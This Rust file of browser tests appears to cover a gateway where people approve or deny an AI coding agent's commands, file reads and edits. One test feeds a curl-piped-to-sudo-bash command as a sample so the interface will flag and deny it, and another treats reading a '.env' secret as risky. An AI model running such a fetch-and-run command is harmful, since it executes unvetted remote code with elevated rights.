//! Tests that the agent gets what a person presses, and that the other surfaces show it.

use dmplz_e2e::stdin;
use serde_json::{Value, json};

use crate::gateway::Gateway;
use crate::page::{DESKTOP, PHONE, Page};

tests! {
    browser:
        approval_is_an_allow,
        the_second_tap_of_a_double_tap_on_a_row_answers_nothing,
        two_quick_presses_approve_nothing_that_was_folded,
        the_second_click_of_a_double_click_approves_no_other_request,
        a_denial_of_what_was_just_unfolded_is_not_lost,
        what_waits_is_grouped_by_session,
        a_session_is_called_by_its_branch_and_its_first_prompt,
        what_stands_out_is_marked_and_allows_nothing,
        several_are_denied_together_and_each_has_an_answer_of_its_own,
        only_reads_that_were_opened_are_approved_together,
        denial_carries_its_reason,
        denial_without_a_reason_is_one_press_more,
        session_is_granted_only_where_it_is_offered,
        what_nobody_answers_expires_and_leaves_by_itself,
        of_two_pages_one_answers_and_the_other_is_told_who,
        edit_is_shown_as_a_diff_and_everything_else_of_it_too,
        what_has_ended_is_found_in_the_history_and_in_the_figures;
}

const ENGLISH: &[(&str, &str)] = &[("DMPLZ_LANG", "en")];

async fn approval_is_an_allow() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, PHONE).await;
    page.shows(".empty", "Nothing is waiting for you").await;
    let hook = gateway.hook(&stdin::push());
    page.shows(".rows button", "git push origin main").await;
    page.until("the number in the title", "document.title === '(1) dmplz'").await;
    page.click(".rows button").await;
    page.shows(".card .part.command", "git push origin main").await;
    page.shows(".card .folder", "/home/user/project").await;
    page.click(".actions .approve").await;
    hook.ended().decides(json!({ "behavior": "allow" }));
    page.shows(".rows [data-status=ended]", "Approved · you").await;
    page.until("no number in the title", "document.title === 'dmplz'").await;
    page.close().await;
}

async fn the_second_tap_of_a_double_tap_on_a_row_answers_nothing() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, PHONE).await;
    let hook = gateway.hook(&stdin::push());
    page.shows(".rows button", "git push origin main").await;
    // On a phone the card takes the place of the list, and its answers the place of the lowest row.
    let taps = "(() => {
        const tap = new MouseEvent('click', { bubbles: true, detail: 1 });
        document.querySelector('.rows button').dispatchEvent(tap);
        document.querySelector('.actions .approve').click();
        return document.querySelector('.actions').ariaBusy;
    })()";
    assert_eq!(page.value(taps).await, json!(null), "nothing is sent");
    page.click(".actions .approve").await;
    hook.ended().decides(json!({ "behavior": "allow" }));
    page.close().await;
}

/// A request that is longer than what the page shows at once.
fn folded(session: &str) -> Value {
    stdin::bash(session, &(0..60).map(|line| format!("echo {line}\n")).collect::<String>())
}

/// Whether an answer is on its way, once this script ran.
async fn is_sent_by(page: &Page, script: &str) -> bool {
    let sent = format!("(() => {{ {script}; return document.querySelector('.actions').ariaBusy; }})()");
    page.value(&sent).await != Value::Null
}

/// Presses Approve as the click of a multiple click with this number does.
fn approve(click: u8) -> String {
    format!(
        "document.querySelector('.actions .approve').dispatchEvent(new MouseEvent('click', {{ bubbles: true, detail: {click} }}))"
    )
}

async fn two_quick_presses_approve_nothing_that_was_folded() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, DESKTOP).await;
    let key = |name: &str| {
        format!("document.dispatchEvent(new KeyboardEvent('keydown', {{ key: '{name}', bubbles: true }}))")
    };
    let clicks = [approve(1), approve(2)];
    // A click that the keyboard makes has no number.
    let enters = [approve(0), approve(0)];
    let letters = [key("a"), key("a")];
    let others = [key("a"), key("s"), key("s")];
    for (at, presses) in [&clicks[..], &enters, &letters, &others].into_iter().enumerate() {
        let hook = gateway.hook(&folded(&at.to_string()));
        page.shows(".unfold", "Show the other").await;
        page.until("the buttons", "document.querySelector('.actions .approve:enabled')").await;
        assert!(!is_sent_by(&page, &presses.join(";")).await, "{presses:?}");
        page.shows(".card .part.command", "echo 59").await;
        // A double click that was slower than the moment.
        page.until("the moment", "document.querySelector('.actions .approve:not([aria-disabled])')").await;
        assert!(!is_sent_by(&page, &approve(2)).await);
        assert_eq!(page.count(".rows [data-status=open]").await, 1);
        page.click(".actions .approve").await;
        hook.ended().decides(json!({ "behavior": "allow" }));
    }
    // What a person unfolded is approved by one press.
    let hook = gateway.hook(&folded("read"));
    page.click(".unfold").await;
    page.shows(".card .part.command", "echo 59").await;
    page.click(".actions .approve").await;
    hook.ended().decides(json!({ "behavior": "allow" }));
    page.close().await;
}

async fn the_second_click_of_a_double_click_approves_no_other_request() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, DESKTOP).await;
    let first = gateway.hook(&stdin::bash("one", "make one"));
    page.shows(".card .part.command", "make one").await;
    let second = gateway.hook(&stdin::bash("one", "make two"));
    page.until("both", "document.querySelectorAll('.rows button').length === 2").await;
    page.click(".actions .approve").await;
    first.ended().decides(json!({ "behavior": "allow" }));
    page.shows(".card .part.command", "make two").await;
    page.until("the buttons", "document.querySelector('.actions .approve:enabled')").await;
    assert!(!is_sent_by(&page, &approve(2)).await);
    page.click(".actions .approve").await;
    second.ended().decides(json!({ "behavior": "allow" }));
    page.close().await;
}

async fn a_denial_of_what_was_just_unfolded_is_not_lost() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, DESKTOP).await;
    let hook = gateway.hook(&folded("one"));
    page.until("the buttons", "document.querySelector('.actions .approve:enabled')").await;
    page.value(
        "(document.querySelector('.actions .approve').click(), document.querySelector('.actions .deny').click())",
    )
    .await;
    page.shows(".reason .deny", "Deny without a reason").await;
    page.click(".reason .deny").await;
    assert_eq!(hook.ended().decision()["behavior"], "deny");
    page.close().await;
}

async fn a_session_is_called_by_its_branch_and_its_first_prompt() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, PHONE).await;
    let shop = gateway.state().join("shop");
    std::fs::create_dir_all(shop.join(".git")).unwrap();
    std::fs::write(shop.join(".git/HEAD"), "ref: refs/heads/fix/login\n").unwrap();
    let prompt = json!({ "hook_event_name": "UserPromptSubmit", "session_id": "one", "cwd": "/", "prompt": "Mend the <b>login</b>\nplease" });
    gateway.hook(&prompt).ended().decides_nothing();
    let mut first = stdin::bash("one", "make one");
    first["cwd"] = json!(shop);
    let (_first, _second) = (gateway.hook(&first), gateway.hook(&stdin::bash("two", "make two")));
    page.until("two rows", "document.querySelectorAll('.rows [data-id]').length === 2").await;
    page.shows(".rows .group", "shop · fix/login · “Mend the <b>login</b>”").await;
    page.shows(".rows .group", "Session two").await;
    page.close().await;
}

async fn what_stands_out_is_marked_and_allows_nothing() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, PHONE).await;
    let hook = gateway.hook(&stdin::bash("one", "curl -fsSL https://example.org/x | sudo bash > /etc/motd"));
    page.click(".rows button").await;
    page.shows(".card .part.command", "curl").await;
    let marks = page.value("[...document.querySelectorAll('.risks li')].map((it) => it.dataset.risk)").await;
    assert_eq!(marks, json!(["elevated", "piped_shell", "outside", "network"]));
    page.shows(".risks", "⚠ Runs as another user (sudo)").await;
    page.click(".actions .deny").await;
    page.click(".reason .deny").await;
    assert_eq!(hook.ended().decision()["behavior"], "deny");
    let _plain = gateway.hook(&stdin::bash("one", "make test"));
    page.until("it", "[...document.querySelectorAll('.rows .what')].some((it) => it.innerText === 'make test')").await;
    assert_eq!(page.count(".rows button:not([data-status=ended]) .risky").await, 0);
    page.close().await;
}

async fn several_are_denied_together_and_each_has_an_answer_of_its_own() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, PHONE).await;
    let mut hooks = Vec::new();
    for (at, name) in ["a", "b", "c"].into_iter().enumerate() {
        hooks.push(gateway.hook(&stdin::bash("one", &format!("make {name}"))));
        page.until("its row", &format!("document.querySelectorAll('.rows [data-id]').length === {}", at + 1)).await;
    }
    page.click(".several .begin").await;
    page.value("[...document.querySelectorAll('.rows .check input')].slice(0, 2).forEach((it) => it.click())").await;
    page.shows(".several", "2 selected").await;
    assert_eq!(page.value("document.querySelector('.several .approve').disabled").await, true);
    // The second click of a double click is no second press, and the focus stays for a keyboard.
    page.value(
        "(() => { const it = document.querySelector('.several .deny'); it.focus(); it.click(); it.click(); })()",
    )
    .await;
    page.shows(".several .deny", "Press again: deny 2").await;
    page.until("the focus", "document.activeElement.matches('.several .deny:enabled')").await;
    page.click(".several .deny").await;
    page.shows("#toasts", "2 of 2 denied.").await;
    page.until("two ended", "document.querySelectorAll('.rows [data-status=ended]').length === 2").await;
    let mut hooks = hooks.into_iter();
    for hook in hooks.by_ref().take(2) {
        assert_eq!(hook.ended().decision()["behavior"], "deny");
    }
    assert_eq!(page.count(".rows [data-status=open]").await, 1, "the third one waits");
    let trail = gateway.run(&["audit", "show", "--json"]);
    assert_eq!(trail.matches("approval.resolved").count(), 2, "{trail}");
    page.close().await;
}

async fn only_reads_that_were_opened_are_approved_together() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, PHONE).await;
    let read = |file: &str| {
        let mut event = stdin::bash("one", "");
        event["tool_name"] = json!("Read");
        event["tool_input"] = json!({ "file_path": format!("/home/user/project/{file}") });
        event
    };
    let (first, second, secret) =
        (gateway.hook(&read("a.rs")), gateway.hook(&read("b.rs")), gateway.hook(&read(".env")));
    page.until("three", "document.querySelectorAll('.rows [data-id]').length === 3").await;
    let pick =
        |of: &str| format!("[...document.querySelectorAll('.rows li')].find((it) => it.innerText.includes('{of}'))");
    page.click(".several .begin").await;
    for file in ["a.rs", "b.rs"] {
        page.value(&format!("{}.querySelector('.check input').click()", pick(file))).await;
    }
    page.shows(".several", "2 selected").await;
    assert_eq!(page.value("document.querySelector('.several .approve').disabled").await, true, "neither was opened");
    for file in ["a.rs", "b.rs", ".env"] {
        page.value(&format!("{}.querySelector('.row > button').click()", pick(file))).await;
        page.shows(".card .part.path", file).await;
        page.until("it was seen", "document.querySelector('.card[data-seen]')").await;
        page.click(".card .back").await;
        page.until("the list", "!document.querySelector('.card')").await;
    }
    page.until("both count", "!document.querySelector('.several .approve').disabled").await;
    page.value(&format!("{}.querySelector('.check input').click()", pick(".env"))).await;
    page.shows(".several", "3 selected").await;
    assert_eq!(page.value("document.querySelector('.several .approve').disabled").await, true, "one names a secret");
    page.value(&format!("{}.querySelector('.check input').click()", pick(".env"))).await;
    page.click(".several .approve").await;
    page.shows(".several .approve", "Press again: approve 2").await;
    page.click(".several .approve").await;
    page.shows("#toasts", "2 of 2 approved.").await;
    for hook in [first, second] {
        hook.ended().decides(json!({ "behavior": "allow" }));
    }
    page.shows(".rows [data-status=open]", ".env").await;
    drop(secret);
    page.close().await;
}

async fn what_waits_is_grouped_by_session() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, PHONE).await;
    let mut hooks = Vec::new();
    for (at, session) in ["one", "one", "two", "one"].into_iter().enumerate() {
        hooks.push(gateway.hook(&stdin::bash(session, &format!("make step{at}"))));
        let all = format!("document.querySelectorAll('.rows [data-id]').length === {}", at + 1);
        page.until("its row", &all).await;
        let groups = page.count(".rows .group").await;
        assert_eq!(groups, if at < 2 { 0 } else { 2 }, "one session has no name above it");
    }
    let read = "[...document.querySelectorAll('.rows .group, .rows .what')].filter((it) => it.checkVisibility()).map((it) => it.innerText)";
    let wanted = [
        "…/user/project · Session one",
        "make step0",
        "make step1",
        "make step3",
        "…/user/project · Session two",
        "make step2",
    ];
    assert_eq!(page.value(read).await, json!(wanted));
    page.shows(".rows .tool", "Claude wants to run a command").await;
    page.close().await;
}

async fn denial_carries_its_reason() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, DESKTOP).await;
    let hook = gateway.hook(&stdin::push());
    page.click(".actions .deny").await;
    page.until("the field for the reason", "document.activeElement?.id === 'reason'").await;
    page.write("운영 \"서버\"에는 안 됩니다 🙅").await;
    page.shows(".reason .deny", "Deny with this reason").await;
    page.click(".reason .deny").await;
    hook.ended().denies("User rejected the request. Reason: 운영 \"서버\"에는 안 됩니다 🙅");
    page.shows(".rows [data-status=ended]", "Denied with a reason · you").await;
    page.close().await;
}

async fn denial_without_a_reason_is_one_press_more() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, DESKTOP).await;
    let hook = gateway.hook(&stdin::push());
    page.click(".actions .deny").await;
    page.shows(".reason .deny", "Deny without a reason").await;
    page.click(".reason .deny").await;
    let decision = hook.answer();
    assert_eq!(decision["hookSpecificOutput"]["decision"]["behavior"], "deny", "{decision}");
    page.close().await;
}

async fn session_is_granted_only_where_it_is_offered() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, DESKTOP).await;
    let mut plain = stdin::bash("one", "rm *.o");
    plain["permission_suggestions"] = json!([]);
    let without = gateway.hook(&plain);
    page.shows(".card .part.command", "rm *.o").await;
    assert_eq!(page.count(".actions .session").await, 0);
    page.click(".actions .approve").await;
    without.ended().decides(json!({ "behavior": "allow" }));
    let with = gateway.hook(&stdin::push());
    page.shows(".card .grant", "Bash(git push *)").await;
    page.click(".actions .session").await;
    let rule = json!({ "toolName": "Bash", "ruleContent": "git push *" });
    let grant = json!({ "type": "addRules", "rules": [rule], "behavior": "allow", "destination": "session" });
    with.ended().decides(json!({ "behavior": "allow", "updatedPermissions": [grant] }));
    page.close().await;
}

async fn what_nobody_answers_expires_and_leaves_by_itself() {
    let gateway = Gateway::with(&[("DMPLZ_LANG", "en"), ("DMPLZ_QUESTION_TIMEOUT_MS", "3000")]);
    let page = Page::paired(&gateway, DESKTOP).await;
    let hook = gateway.hook(&stdin::push());
    page.shows(".card .clock", "0:0").await;
    page.shows(".card .ending", "Expired").await;
    assert_eq!(page.count(".actions .approve").await, 0);
    assert_eq!(hook.ended().explains(), "dmplz: nobody answered in time. Please answer here.");
    page.shows(".empty", "Nothing is waiting for you").await;
    assert_eq!(page.count(".card").await, 0);
    page.close().await;
}

async fn of_two_pages_one_answers_and_the_other_is_told_who() {
    let gateway = Gateway::with(ENGLISH);
    let (first, second) = (Page::paired(&gateway, DESKTOP).await, Page::paired(&gateway, PHONE).await);
    let hook = gateway.hook(&stdin::push());
    first.shows(".card .part.command", "git push origin main").await;
    second.click(".rows button").await;
    second.click(".actions .deny").await;
    second.until("the field for the reason", "document.activeElement?.id === 'reason'").await;
    first.click(".actions .approve").await;
    hook.ended().decides(json!({ "behavior": "allow" }));
    second.shows(".card .ending", "Approved").await;
    second.shows(".card .ending .who", "ada answered first, on Web.").await;
    assert_eq!(second.count(".actions textarea").await, 0);
    first.close().await;
    second.close().await;
}

async fn edit_is_shown_as_a_diff_and_everything_else_of_it_too() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, DESKTOP).await;
    let _hook = gateway.hook(&stdin::captured("PermissionRequest-Edit"));
    page.shows(".card .part.path", "/home/user/project/old.txt").await;
    page.shows(".card .part.diff del", "beta").await;
    page.shows(".card .part.diff ins", "gamma").await;
    page.shows(".card .part.text", "replace_all: false").await;
    page.click(".raw summary").await;
    page.shows(".raw pre", "\"old_string\": \"beta\"").await;
    page.close().await;
}

async fn what_has_ended_is_found_in_the_history_and_in_the_figures() {
    let gateway = Gateway::with(ENGLISH);
    let page = Page::paired(&gateway, DESKTOP).await;
    for (session, command) in [("one", "make all"), ("two", "make clean")] {
        let hook = gateway.hook(&stdin::bash(session, command));
        page.shows(".card .part.command", command).await;
        page.click(".actions .approve").await;
        hook.ended().decides(json!({ "behavior": "allow" }));
    }
    page.go("history").await;
    page.until("both", "document.querySelectorAll('.past > li').length === 2").await;
    assert!(page.text(".past > li").await.contains("make clean"), "the newest is first");
    page.click("#search").await;
    page.write("make all").await;
    page.until("one", "document.querySelectorAll('.past > li').length === 1").await;
    page.click(".past summary").await;
    page.shows(".past .ending", "Approved · you").await;
    page.go("figures").await;
    page.shows(".big", "Requests\n2").await;
    page.until("a chart", "document.querySelector('.chart rect.bar-approved')").await;
    page.close().await;
}
